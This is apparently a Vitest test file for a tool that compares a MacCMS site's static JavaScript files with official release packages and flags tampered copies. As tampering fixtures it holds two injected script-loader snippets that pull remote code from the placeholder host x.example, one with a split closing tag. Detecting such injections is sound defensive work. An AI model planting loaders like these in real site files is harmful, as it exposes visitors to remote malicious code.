import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { addRelease } from '@/server/content/add-release';
import { getDb } from '@/server/db/client';
import { domainReleaseIndex } from '@/server/db/schema';
import { judgeStaticFile } from '@/server/domain/official/compare';
import { addedText } from '@/server/domain/official/diff';
import { loadOfficialFiles } from '@/server/domain/official/load-official';
import { versionsByFile } from '@/server/domain/official/official-files';
import { readPlayerConfig } from '@/server/domain/official/playerconfig';

const zip = (files: Record<string, string>) =>
  zipSync(Object.fromEntries(Object.entries(files).map(([k, v]) => [k, strToU8(v)])));

const PLAYER_1 = 'var MacPlayer={Init:function(){this.Width="100%"}};\nMacPlayer.Init();';
const PLAYER_2 = 'var MacPlayer={Init:function(){this.Width="100%";this.Mob=1}};\nMacPlayer.Init();';
const HOME = 'var MAC={Url:document.URL};';

const release = (version: string, kind: 'install' | 'upgrade', files: Record<string, string>) =>
  addRelease({
    edition: 'pro',
    kind,
    version,
    notes: { 'zh-cn': 'x', 'en-us': 'x' },
    fileName: `maccms-${version}.zip`,
    bytes: zip(Object.fromEntries(Object.entries(files).map(([p, t]) => [`maccms-pro-${version}/${p}`, t]))),
  });

describe('official static files, derived from the release packages', () => {
  it("records each package's static files when a release is added, and carries unchanged files through upgrades", async () => {
    await release('2026.1000.5001', 'install', {
      'static/js/player.js': PLAYER_1,
      'static/js/home.js': HOME,
      'application/extra/version.php': '<?php',
    });
    // The upgrade ships only what changed: home.js stays the 5001 file in 5002.
    await release('2026.1000.5002', 'upgrade', { 'static/js/player.js': PLAYER_2 });
    const official = await loadOfficialFiles();
    const player = official.byPath.get('/static/js/player.js')!;
    expect([...player.values()]).toEqual([['2026.1000.5001'], ['2026.1000.5002']]);
    expect([...official.byPath.get('/static/js/home.js')!.values()]).toEqual([
      ['2026.1000.5001', '2026.1000.5002'],
    ]);
    expect(official.byPath.has('/application/extra/version.php')).toBe(false);
  });

  it('reads the packages of releases published before (or while reading failed)', async () => {
    await release('2026.1000.5003', 'upgrade', { 'static/js/player.js': `${PLAYER_2}\n// 5003` });
    const db = await getDb();
    await db.delete(domainReleaseIndex);
    const official = await loadOfficialFiles();
    expect([...official.byPath.get('/static/js/player.js')!.values()].flat()).toContain('2026.1000.5003');
    expect((await db.select().from(domainReleaseIndex)).length).toBeGreaterThanOrEqual(3);
  });

  it('tells an exact copy (whatever its line endings) from a tampered one, and shows what was added', async () => {
    const official = await loadOfficialFiles();
    const exact = await judgeStaticFile(
      '/static/js/player.js',
      `\uFEFF${PLAYER_1.replace(/\n/g, '\r\n')}\r\n`,
      official,
    );
    expect(exact?.verdict).toEqual({
      status: 'official',
      path: '/static/js/player.js',
      versions: ['2026.1000.5001'],
    });
    const loader = ";document.write('<script src=\"https://x.example/a.js\"></scr'+'ipt>')";
    const tampered = await judgeStaticFile(`/sub/static/js/player.js`, `${PLAYER_2}${loader}`, official);
    expect(tampered?.verdict).toMatchObject({
      status: 'tampered',
      path: '/static/js/player.js',
      nearest: ['2026.1000.5002'],
      added: [{ text: loader }],
    });
    expect((await judgeStaticFile('/static/js/unknown.js', 'var a=1;', official))?.verdict.status).toBe(
      'unknown',
    );
    expect(await judgeStaticFile('/js/app.js', 'var a=1;', official)).toBeNull();
    // Another build that shares a few lines with an official file is not a tampered copy of it.
    const other = `${PLAYER_1}\n${Array.from({ length: 200 }, (_, i) => `MacPlayer.f${i}=function(){return ${i}};`).join('\n')}`;
    expect((await judgeStaticFile('/static/js/player.js', other, official))?.verdict.status).toBe('unknown');
  });

  it('reads the player configuration by its shape: settings are data, anything else is added code', () => {
    const settings = `var MacPlayerConfig={};\nMacPlayerConfig={"buffer":"\\/\\/union.maccms.la\\/buffer.html","parse":""};\nMacPlayerConfig.player_list={"dplayer":{"show":"DPlayer","ps":"0"}},MacPlayerConfig.server_list={};`;
    expect(readPlayerConfig(settings)).toEqual({
      added: [],
      pages: [{ field: 'buffer', url: '//union.maccms.la/buffer.html' }],
    });
    const code = `(function(){var s=document.createElement('script');s.src='https://x.example/p.js'})();`;
    expect(readPlayerConfig(`${settings}\n${code}`)?.added).toEqual([
      { offset: settings.length + 1, text: code },
    ]);
  });

  it('shows what a copy adds: an insertion in the middle, or an append on one minified line', () => {
    const official = 'line1\nline2\nline3\nline4';
    expect(addedText(official, 'line1\nline2\nEVIL();\nline3\nline4')).toEqual([
      { offset: 12, text: 'EVIL();' },
    ]);
    expect(addedText('a();b();c();', 'a();b();c();evil();')).toEqual([{ offset: 12, text: 'evil();' }]);
    expect(addedText(official, official)).toEqual([]);
  });

  it('gives each version the files it really has', () => {
    const files = versionsByFile([
      { edition: 'v10', kind: 'upgrade', version: '2024.1000.1', path: '/a.js', sha256: 'A1' },
      { edition: 'v10', kind: 'upgrade', version: '2024.1000.2', path: '/b.js', sha256: 'B2' },
      { edition: 'v10', kind: 'install', version: '2024.1000.3', path: '/a.js', sha256: 'A3' },
    ]);
    expect(Object.fromEntries(files.get('/a.js')!)).toEqual({
      A1: ['2024.1000.1', '2024.1000.2'],
      A3: ['2024.1000.3'],
    });
    // An install package is complete: b.js is not carried into 3.
    expect(Object.fromEntries(files.get('/b.js')!)).toEqual({ B2: ['2024.1000.2'] });
  });
});
